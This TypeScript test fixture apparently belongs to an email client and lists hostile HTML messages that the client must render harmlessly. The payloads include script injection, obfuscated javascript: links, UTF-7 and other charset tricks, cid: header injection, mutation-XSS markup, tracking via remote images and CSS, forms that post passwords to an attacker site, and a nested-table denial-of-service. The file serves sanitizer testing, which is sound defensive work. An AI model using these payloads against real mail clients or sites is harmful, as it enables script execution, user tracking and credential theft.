const utf7 = (html: string): string => html.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-').replaceAll('"', '+ACI-')

/** A message that must be shown without any effect. */
export interface HostileMail {
  readonly name: string
  /** The message as it is received. @param site the base of the URLs of a site of the attacker */
  raw(site: string): string
}

/** The effect of a script, if one ran: the title is then `run`. */
const RUN = "document.title='run'"
const MIME = 'MIME-Version: 1.0\r\n'

const htmlMail = (name: string, html: (site: string) => string, type = 'text/html; charset=utf-8'): HostileMail => ({
  name,
  raw: (site) => `Subject: ${name}\r\n${MIME}Content-Type: ${type}\r\n\r\n${html(site)}\r\n`,
})

const related = (name: string, html: string, parts: readonly string[]): HostileMail => ({
  name,
  raw: (site) =>
    `${[
      `Subject: ${name}\r\n${MIME}Content-Type: multipart/related; boundary=b\r\n`,
      `Content-Type: text/html\r\n\r\n${html.replaceAll('SITE', site)}`,
      ...parts.map((part) => part.replaceAll('SITE', site)),
    ].join('\r\n--b\r\n')}\r\n--b--\r\n`,
})

const picture = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
)

export const hostileMails: readonly HostileMail[] = [
  htmlMail(
    'scripts',
    (site) => `<body onload="${RUN}"><script>${RUN}</script><script src="${site}/a.js"></script>
      <script type="module">import '${site}/m.js'</script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${site}/s"]}]}</script>
      <img src="x:" onerror="${RUN}"><input autofocus onfocus="${RUN}"><details open ontoggle="${RUN}"></details>
      <iframe srcdoc="<script>top.${RUN}</script>"></iframe><iframe src="javascript:top.${RUN}"></iframe>
      <object data="javascript:${RUN}"></object><embed src="javascript:${RUN}"><marquee onstart="${RUN}">m</marquee>
      <style onload="${RUN}"></style><video><source onerror="${RUN}" src="x:"></video>`,
  ),
  htmlMail(
    'SVG and MathML',
    (site) => `<svg onload="${RUN}"><script>${RUN}</script><script href="${site}/svg.js"></script>
      <image href="${site}/i.png"/><use href="${site}/u.svg#a"/><a href="javascript:${RUN}"><text y="9">svg</text></a>
      <foreignObject><iframe src="${site}/f"></iframe></foreignObject><filter id="f"><feImage href="${site}/fe.png"/></filter>
      <rect filter="url(#f)" width="9" height="9"/><rect fill="url(${site}/p.svg#a)" width="9" height="9"/>
      <animate attributeName="href" to="${site}/x"/></svg><math><maction actiontype="statusline" href="${site}/m">m</maction></math>`,
  ),
  htmlMail(
    'style sheets',
    (site) => `<style>@import url("${site}/i.css"); @font-face { font-family: f; src: url("${site}/f.woff") }
      body { font-family: f; background: url("${site}/b.png"); cursor: url("${site}/c.cur"), auto; list-style: url("${site}/l.png") }
      input[value^="s"] { background: image-set("${site}/s.png" 1x) } li::before { content: url("${site}/k.png") }
      p { mask: url("${site}/m.svg#a"); shape-outside: url("${site}/o.png"); border-image: url("${site}/bi.png") 1; clip-path: url("${site}/cp.svg#a") }</style>
      <link rel="stylesheet" href="${site}/l.css"><link rel="icon" href="${site}/icon.png"><link rel="preload" as="image" href="${site}/pre.png">
      <link rel="prefetch" href="${site}/pf"><link rel="modulepreload" href="${site}/mp.js"><link rel="manifest" href="${site}/mf.json">
      <input value="secret"><ul><li>l</li></ul><p style="background:url(${site}/style.png)">p</p>`,
  ),
  htmlMail(
    'connections in advance',
    (
      site,
    ) => `<link rel="preconnect" href="${site}"><link rel="dns-prefetch" href="${site}"><link rel="prerender" href="${site}/pr">
      <link rel="preconnect" crossorigin href="${site}"><a href="${site}/link">link</a>`,
  ),
  htmlMail(
    'media',
    (
      site,
    ) => `<img src="${site}/a.png"><img srcset="${site}/b.png 1x, ${site}/c.png 2x"><picture><source srcset="${site}/d.png"><img src="x:"></picture>
      <video poster="${site}/e.png" src="${site}/e.mp4" autoplay></video><audio src="${site}/f.mp3" autoplay></audio><video><track default src="${site}/t.vtt"></video>
      <table background="${site}/g.png"><tr><td background="${site}/h.png">t</td></tr></table><body background="${site}/i.png">
      <input type="image" src="${site}/j.png"><object data="${site}/k"></object><embed src="${site}/l"><iframe src="${site}/m"></iframe>
      <applet code="${site}/n"></applet><frameset><frame src="${site}/o"></frameset><bgsound src="${site}/p">`,
  ),
  htmlMail(
    'forms',
    (
      site,
    ) => `<form id="f" action="${site}/form" method="post"><input name="password" value="x" autofocus><button id="go">Log on</button></form>
      <button form="f" formaction="${site}/button" id="other">Other</button><isindex action="${site}/isindex">`,
  ),
  htmlMail(
    'meta fields',
    (
      site,
    ) => `<meta http-equiv="refresh" content="0; url=${site}/refresh"><meta http-equiv="Content-Security-Policy" content="default-src *">
      <meta http-equiv="set-cookie" content="sealpost-session=x"><meta name="referrer" content="unsafe-url"><meta http-equiv="x-dns-prefetch-control" content="on">
      <meta http-equiv="Link" content="&lt;${site}/l.css&gt;; rel=stylesheet">text`,
  ),
  htmlMail(
    'a base',
    (site) =>
      `<base href="${site}/" target="_top"><img src="a.png"><link rel="stylesheet" href="b.css"><a href="c" id="link">c</a>`,
  ),
  htmlMail(
    'links that run',
    () => `<a id="js" href="javascript:${RUN}">js</a> <a id="entity" href="&#106;avascript:${RUN}">entity</a> <a id="tab" href="java\tscript:${RUN}">tab</a>
      <a id="data" href="data:text/html,<script>${RUN}</script>">data</a> <a id="top" target="_top" href="data:text/html,top">top</a>
      <a id="blank" target="_blank" href="javascript:opener.${RUN}">blank</a> <map name="m"><area href="javascript:${RUN}" shape="default"></map><img usemap="#m" alt="area" id="area">`,
  ),
  htmlMail('pings', (site) => `<a id="ping" href="#here" ping="${site}/ping">ping</a>`),
  htmlMail('UTF-7', (site) => utf7(`<script>${RUN}</script><img src="${site}/utf7.png">`), 'text/html; charset=utf-7'),
  htmlMail(
    'UTF-7 by a meta field',
    (site) => `<meta charset="utf-7">${utf7(`<script>${RUN}</script><img src="${site}/utf7.png">`)}`,
  ),
  htmlMail(
    'other character sets',
    () => `${Buffer.from(`<script>${RUN}</script>`, 'utf16le').toString('latin1')}\x1b$B<script>${RUN}</script>\x1b(B`,
    'text/html; charset=iso-2022-jp',
  ),
  related(
    'cid: tricks',
    `<img src="cid:a"><img src='cid:x" onerror="${RUN}'><img src=cid:svg><iframe src="cid:html"></iframe><object data="cid:html"></object>
     <img src="cid:${encodeURIComponent(`"><script>${RUN}</script>`)}"><style>@import "cid:css"; body { background: url(cid:a) }</style>
     <link rel="stylesheet" href="cid:css"><script src="cid:js"></script>cid:a <a href="cid:html" id="cidlink">html</a><embed src="cid:svg">`,
    [
      `Content-Type: image/png\r\nContent-ID: <a>\r\nContent-Transfer-Encoding: base64\r\n\r\n${picture.toString('base64')}`,
      `Content-Type: image/svg+xml\r\nContent-ID: <svg>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><image href="SITE/svg.png"/></svg>`,
      `Content-Type: text/html\r\nContent-ID: <html>\r\nContent-Disposition: attachment\r\n\r\n<script>top.${RUN}</script><img src="SITE/cid.png">`,
      `Content-Type: text/css\r\nContent-ID: <css>\r\n\r\nbody { background: url("SITE/cid-css.png") }`,
      `Content-Type: image/png; name="a\\"b"\r\nContent-ID: <"><script>${RUN}</script>>\r\n\r\n<script>${RUN}</script>`,
      `Content-Type: text/javascript\r\nContent-ID: <js>\r\n\r\n${RUN}`,
    ],
  ),
  htmlMail(
    'broken markup',
    (
      site,
    ) => `<!--><script>${RUN}</script>--><![CDATA[><img src=${site}/cdata.png>]]><noscript><p title="</noscript><img src=${site}/ns.png onerror=${RUN}>">
      <template><img src="${site}/t.png"></template><title><a href="</title><img src=${site}/title.png onerror=${RUN}>"></title><xmp><img src=${site}/x.png></xmp>
      <svg><style><img src="</style><img src=${site}/st.png onerror=${RUN}>"></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${site}/mx.png onerror=${RUN}&gt;">`,
  ),
]

/** 10 MB of tables in each other. */
export const nestedTables = htmlMail('nested tables', () => '<table><tr><td>'.repeat(680_000))
